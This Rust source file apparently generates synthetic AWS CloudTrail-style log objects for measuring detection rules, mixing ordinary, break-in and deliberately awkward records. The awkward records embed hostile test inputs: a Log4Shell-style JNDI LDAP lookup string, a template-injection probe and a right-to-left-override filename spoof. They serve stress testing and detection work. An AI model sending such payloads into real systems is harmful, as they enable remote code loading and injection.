//! A corpus of any size for measuring: the ordinary records of the day, drawn again and again with fresh
//! ids and times, and now and then an awkward one.

use std::io::{self, Write};

use flate2::{Compression, GzBuilder};
use serde_json::{Value, json};

use super::actors::{Actor, CLI_AGENT};
use super::moment::{Moment, OPENING};
use super::random::Random;
use super::record::{Call, Traffic};
use super::{break_in, ordinary};

/// One awkward record in this many.
const ONE_AWKWARD_IN: u32 = 400;
/// One record of the break-in in this many: rules have something to match, as seldom as in real logs.
const ONE_OF_BREAK_IN_IN: u32 = 2_000;
/// Seconds over which the times of a corpus are spread, from the opening on.
const SPREAD: u32 = 6 * 3600;

/// Draws the records of a corpus; the same seed gives the same records everywhere.
#[derive(Debug)]
pub struct Corpus {
    ordinary: Vec<String>,
    break_in: Vec<String>,
    awkward: Vec<String>,
    random: Random,
}

impl Corpus {
    /// A corpus that depends on `seed` alone.
    pub fn new(seed: u64) -> Self {
        let text = |records: Vec<super::record::Record>| records.into_iter().map(|record| record.text).collect();
        Self {
            ordinary: text(ordinary::records()),
            break_in: text(break_in::records()),
            awkward: awkward(),
            random: Random::named(&format!("corpus {seed}")),
        }
    }

    /// The next record, as one line of JSON.
    pub fn record(&mut self) -> String {
        let from = if self.random.below(ONE_OF_BREAK_IN_IN) == 0 {
            &self.break_in
        } else if self.random.below(ONE_AWKWARD_IN) == 0 {
            &self.awkward
        } else {
            &self.ordinary
        };
        let chosen = self.random.below(u32::try_from(from.len()).unwrap_or(u32::MAX));
        let Some(template) = from.get(chosen as usize).cloned() else { return String::new() };
        self.freshened(&template)
    }

    /// The next log object: `records` records in a gzip of one member.
    ///
    /// # Errors
    ///
    /// Those of writing into memory, which do not happen.
    pub fn object(&mut self, records: usize) -> io::Result<Vec<u8>> {
        let mut out = GzBuilder::new().mtime(0).write(Vec::new(), Compression::default());
        out.write_all(b"{\"Records\":[")?;
        for number in 0..records {
            if number > 0 {
                out.write_all(b",")?;
            }
            out.write_all(self.record().as_bytes())?;
        }
        out.write_all(b"]}")?;
        out.finish()
    }

    /// The record with ids and a time of its own, as no two real records share them.
    fn freshened(&mut self, template: &str) -> String {
        let mut text = template.to_owned();
        for key in ["eventID", "requestID", "sharedEventID"] {
            let marker = format!("\"{key}\":\"");
            let Some((before, rest)) = text.split_once(&marker) else { continue };
            let Some((old, after)) = rest.split_once('"') else { continue };
            let new = if old.len() == 36 { self.random.uuid() } else { self.random.upper(old.len()) };
            text = format!("{before}{marker}{new}\"{after}");
        }
        let marker = "\"eventTime\":\"";
        if let Some((before, rest)) = text.split_once(marker)
            && let Some((_, after)) = rest.split_once('"')
        {
            let time = OPENING.plus(self.random.below(SPREAD)).rfc3339();
            text = format!("{before}{marker}{time}\"{after}");
        }
        text
    }
}

/// Records that are large, deep, full of escapes, or written by somebody who means harm.
fn awkward() -> Vec<String> {
    let mut traffic = Traffic::named("awkward");
    let actor = Actor::user("build-agent").from("198.51.100.44", CLI_AGENT);
    let at = Moment::at(9, 0);
    let mut send = |event: &str, request: Value| {
        traffic.send(Call::new(&actor, event, at).request(request));
    };
    send("iam:CreatePolicy", json!({"policyName": "wide", "policyDocument": policy(40).to_string()}));
    send("iam:PutRolePolicy", json!({"roleName": "wide", "policyDocument": policy(8).to_string()}));
    send("ssm:PutParameter", json!({"name": "/large", "value": "0123456789abcdef".repeat(3_000)}));
    send(
        "ec2:RunInstances",
        json!({"instancesSet": {"items": vec![json!({"imageId": "ami-0abcdef1234567890"}); 300]}}),
    );
    send("states:StartExecution", json!({"input": nested(90)}));
    send("glue:CreateJob", json!({"name": "\u{202e}gnp.exe \"quoted\" \\back\\ \n\t \u{1f512} straße 東京"}));
    send("sns:Publish", json!({"message": "\\u0000 {{7*7}} <!channel> ${jndi:ldap://192.0.2.1/a}".repeat(40)}));
    send(
        "dynamodb:PutItem",
        json!({"key": (0..400).map(|n| (format!("field{n}"), json!(n))).collect::<serde_json::Map<_, _>>()}),
    );
    traffic.into_records().into_iter().map(|record| record.text).collect()
}

/// A policy of so many statements; as text inside a record every quote of it is escaped.
fn policy(statements: u32) -> Value {
    let statement = |number| {
        json!({
            "Sid": format!("Statement{number}"),
            "Effect": "Allow",
            "Action": ["s3:GetObject", "s3:PutObject", "s3:ListBucket"],
            "Resource": format!("arn:aws:s3:::bucket-{number}/*"),
            "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-a1b2c3d4e5"}},
        })
    };
    json!({"Version": "2012-10-17", "Statement": (0..statements).map(statement).collect::<Vec<_>>()})
}

fn nested(levels: u32) -> Value {
    (0..levels).fold(json!("bottom"), |inner, _| json!({ "level": inner }))
}
